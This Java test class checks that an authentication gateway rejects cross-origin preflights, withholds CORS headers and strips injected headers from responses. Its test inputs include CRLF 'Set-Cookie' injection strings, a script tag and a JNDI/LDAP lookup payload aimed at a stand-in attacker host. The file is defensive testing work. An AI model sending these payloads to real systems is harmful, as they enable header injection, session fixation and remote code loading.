package io.authsvcs.gateway;

import static com.github.tomakehurst.wiremock.client.WireMock.any;
import static com.github.tomakehurst.wiremock.client.WireMock.anyUrl;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.options;
import static io.authsvcs.gateway.Calls.anyCall;
import static io.authsvcs.gateway.Enveloped.enveloped;
import static io.authsvcs.gateway.Enveloped.reason;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.WireMockServer;
import io.authsvcs.common.Status;
import io.authsvcs.gateway.upstream.TestCluster;
import java.util.Locale;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;

/** What a page of another site, or whoever has somebody follow a link, gets out of the gateway. */
@GatewayTest
class OtherSitesTest {
    private static final String ORIGIN = "Origin: https://evil.example";

    private final WireMockServer instance = new WireMockServer(options().dynamicPort());
    private final Caller caller;
    private final TestCluster cluster;

    @Autowired
    OtherSitesTest(Caller caller, TestCluster cluster) {
        this.caller = caller;
        this.cluster = cluster;
    }

    @BeforeEach
    void start() {
        instance.start();
        instance.stubFor(any(anyUrl())
                .willReturn(okJson("{}")
                        .withHeader("Access-Control-Allow-Origin", "*")
                        .withHeader("Access-Control-Allow-Credentials", "true")));
        cluster.up("sites", instance.port());
    }

    @AfterEach
    void leave() {
        cluster.clear();
        instance.stop();
    }

    @ParameterizedTest
    @CsvSource({
        "/v1/auth/login, POST",
        "/v1/auth/me, PATCH",
        "/v1/auth/validate, GET",
        "/v1/admin/users, POST",
        "/v1/router/nodes/a/drain, POST",
        "/oauth2/introspect, POST"
    })
    void noBrowserIsTold(String path, String method) {
        String answer = caller.lines(
                "OPTIONS " + path + " HTTP/1.1",
                "Host: a",
                "Connection: close",
                ORIGIN,
                "Access-Control-Request-Method: " + method,
                "Access-Control-Request-Headers: authorization,content-type");

        assertThat(answer).startsWith("HTTP/1.1 405 ").doesNotContainIgnoringCase("access-control-");
        instance.verify(0, anyCall());
    }

    @ParameterizedTest
    @EnumSource
    void noBrowserIsToldByAContract(TestContract contract) {
        String answer = caller.lines(
                "OPTIONS " + contract.path() + " HTTP/1.1",
                "Host: a",
                "Connection: close",
                ORIGIN,
                "Access-Control-Request-Method: POST");

        assertThat(answer)
                .startsWith("HTTP/1.1 405 ")
                .doesNotContainIgnoringCase("access-control-")
                .endsWith(contract.error(405, "Unsupported method"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"/v1/auth/me", "/.well-known/jwks.json", "/v1/auth/verify", "/v1/router/health", "/nothing"})
    void noAnswerIsForOtherSites(String path) {
        String answer = caller.lines("GET " + path + " HTTP/1.1", "Host: a", "Connection: close", ORIGIN);

        assertThat(answer).startsWith("HTTP/1.1 ").doesNotContainIgnoringCase("access-control-");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/v1/auth/nothing%0d%0aSet-Cookie:%20a=b",
                "/v1/auth/validate/%0d%0aSet-Cookie:%20a=b",
                "/v1/auth/validate/a%E5%98%8A%E5%98%8DSet-Cookie:a=b",
                "/v1/auth/me?a=%0d%0aSet-Cookie:%20a=b",
                "/v1/router/health?%0aSet-Cookie:a=b"
            })
    void noAddressWritesAHeader(String target) {
        String answer = caller.lines("GET " + target + " HTTP/1.1", "Host: a", "Connection: close");

        assertThat(answer).startsWith("HTTP/1.1 ").doesNotContainIgnoringCase("set-cookie");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "a%0d%0aSet-Cookie: a=b",
                "a\u00e5\u0098\u008a\u00e5\u0098\u008dSet-Cookie: a=b",
                "a, b",
                "<script>",
                "\"",
                "{}",
                "${jndi:ldap://evil.example}",
                "a\tb"
            })
    void noRequestIdWritesAnythingButItself(String id) {
        String answer =
                caller.lines("GET /v1/auth/nothing HTTP/1.1", "Host: a", "Connection: close", "X-Request-Id: " + id);

        assertThat(headersOf(answer).filter(line -> line.startsWith("x-request-id: ")))
                .singleElement()
                .asString()
                .matches("x-request-id: [0-9a-f-]{36}");
        assertThat(answer)
                .doesNotContainIgnoringCase("set-cookie")
                .endsWith(enveloped(Status.NOT_FOUND, reason("Unknown resource")));
    }

    @Test
    void anAnswerSaysNothingOfWhoMadeIt() {
        assertThat(headersOf(caller.lines("GET /v1/auth/me HTTP/1.1", "Host: a", "Connection: close"))
                        .map(line -> line.substring(0, line.indexOf(':'))))
                .containsExactlyInAnyOrder(
                        "content-type", "content-length", "cache-control", "x-request-id", "connection");
    }

    private static Stream<String> headersOf(String answer) {
        return answer.substring(0, answer.indexOf("\r\n\r\n"))
                .lines()
                .skip(1)
                .map(line -> line.toLowerCase(Locale.ROOT));
    }
}
